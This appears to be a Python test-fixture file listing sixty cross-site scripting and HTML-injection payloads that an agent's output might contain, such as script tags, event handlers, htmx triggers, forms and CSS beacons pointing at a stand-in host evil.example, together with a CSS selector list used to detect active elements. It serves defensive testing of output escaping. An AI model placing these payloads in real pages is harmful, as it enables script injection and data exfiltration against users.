"""Sixty things that an agent may say and that must stay text wherever they are shown (P67)."""

from __future__ import annotations

HIT = "window.hits=(window.hits||0)+1"
EVIL = "https://evil.example"

SCRIPTS = [
    f"<script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"</td></tr></tbody></table><script>{HIT}</script>",
    f"<ScRiPt\n>{HIT}</sCrIpT >",
    f"<scr<script>ipt>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>{HIT}</script>",
    f"<script src='data:text/javascript,{HIT}'></script>",
    f"</title></textarea></style><script>{HIT}</script>",
]
HANDLERS = [
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"' onmouseover='{HIT}' x='",
    f'" autofocus onfocus="{HIT}" tabindex="0',
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<video autoplay onloadstart={HIT}><source src=x></video>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<div popover id=p onbeforetoggle={HIT}>x</div><button popovertarget=p>x</button>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={HIT}>x</b>",
]
HTMX = [
    '<div hx-get="/evil" hx-trigger="load">x</div>',
    '<div data-hx-get="/evil" data-hx-trigger="load">x</div>',
    f"<div hx-on:click='{HIT}' hx-on--load='{HIT}'>x</div>",
    f"<div data-hx-on:htmx:load='{HIT}' hx-on::after:init='{HIT}'>x</div>",
    '<div hx-post="/guard/release/" hx-trigger="load, every 1s" hx-vals="js:{x:1}">x</div>',
    f'<div hx-ws:connect="wss://evil.example/" data-hx-ws:connect="{EVIL}">x</div>',
    '<div hx-ext="ws" ws-connect="wss://evil.example/" ws-send>x</div>',
    '<hx-partial hx-target="#summary" hx-swap="innerHTML">gone</hx-partial>',
    '</hx-partial><hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
    '<template><div id="summary" hx-swap-oob="true">gone</div></template>',
    '<div id="connection" hx-swap-oob="outerHTML:#connection">gone</div>',
    '<meta name="htmx-config" content=\'{"selfRequestsOnly":false}\'>',
]
FRAMES_AND_FORMS = [
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data={EVIL}/x.svg></object><embed src={EVIL}/x.svg>",
    f'<form action="{EVIL}/"><button id="connection">x</button></form>',
    f"<button form=f formaction={EVIL}/>x</button><form id=f></form>",
    f"<dialog open><form method=dialog><button>x</button></form><img src={EVIL}/d.png></dialog>",
    f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<a id="main" name="cursor" href="javascript:{HIT}">x</a>',
]
LOOKS = [
    f'<img src="{EVIL}/beacon.png" srcset="{EVIL}/2.png 2x">',
    f"<style>@import '{EVIL}/x.css';</style><link rel=stylesheet href={EVIL}/x.css>",
    f'<p style="background:url({EVIL}/x.png);position:fixed;inset:0">x</p>',
    f"<style>body{{background:url({EVIL}/x.png)}}</style><link rel=preload as=image href={EVIL}/p.png>",
]
NAMESPACES = [
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<svg><p><style><g title='</style><img src=x onerror={HIT}>'></style></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a><use href='{EVIL}/x.svg#x'/></svg>",
    f"<svg><foreignObject><iframe src={EVIL}/></iframe></foreignObject><animate onbegin={HIT} attributeName=x></svg>",
    f"<!--<img src=x--><img src=y onerror={HIT}>--><![CDATA[<script>{HIT}</script>]]>",
]
MARKDOWN = [
    f"[click](javascript:alert(1)) ![x]({EVIL}/beacon.png)",
    f"<{EVIL}/> <javascript:alert(1)> <data:text/html,<script>{HIT}</script>>",
    f"[x][1] ![y][1] [z](<JaVaScRiPt&#58;{HIT}>)\n\n[1]: javascript:{HIT} 'title'",
    f"[x](data:text/html;base64,PHNjcmlwdD4) [y](vbscript:x) [z](\x01javascript:{HIT})",
    f"```html\n<script>{HIT}</script>\n```\n\n    <script>{HIT}</script>\n\n`<b onclick={HIT}>`",
    f"| a |\n|---|\n| <img src=x onerror={HIT}> |\n\n# <script>{HIT}</script>",
]
TEXTS = [
    f"{{{{7*7}}}}{{% now 'Y' %}}${{{HIT}}}{{# x #}}{{% include '500.html' %}}",
    f"&lt;script&gt;{HIT}&lt;/script&gt;\u202e\u2066x\u2028y",
    f"\u202etxt.exe\u202c \u2067<b>\u2069 \ufeff\U000e0041 {HIT}",
    "\x1b[31mred\x07 \r\nSet-Cookie: x=1\x7f <b>",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *HTMX, *FRAMES_AND_FORMS, *LOOKS, *NAMESPACES, *MARKDOWN, *TEXTS]

# Whatever of these there is within the page's body came from an agent.
ACTIVE = ", ".join(
    r"""script iframe base style object embed link meta marquee video math hx-partial form[action^=http] [src^=http]
    [srcdoc] [style] [formaction] [popover] [hx-get] [data-hx-get] [hx-post] [hx-on\:click] [hx-on--load]
    [hx-swap-oob] [ws-connect] [hx-ws\:connect^=ws] [data-hx-ws\:connect] [onload] [onerror] [onfocus] [ontoggle]
    [onmouseover] [onstart] [onbegin] [onanimationstart] [href^=javascript] [href^=data] [href^=vbscript]""".split()
)
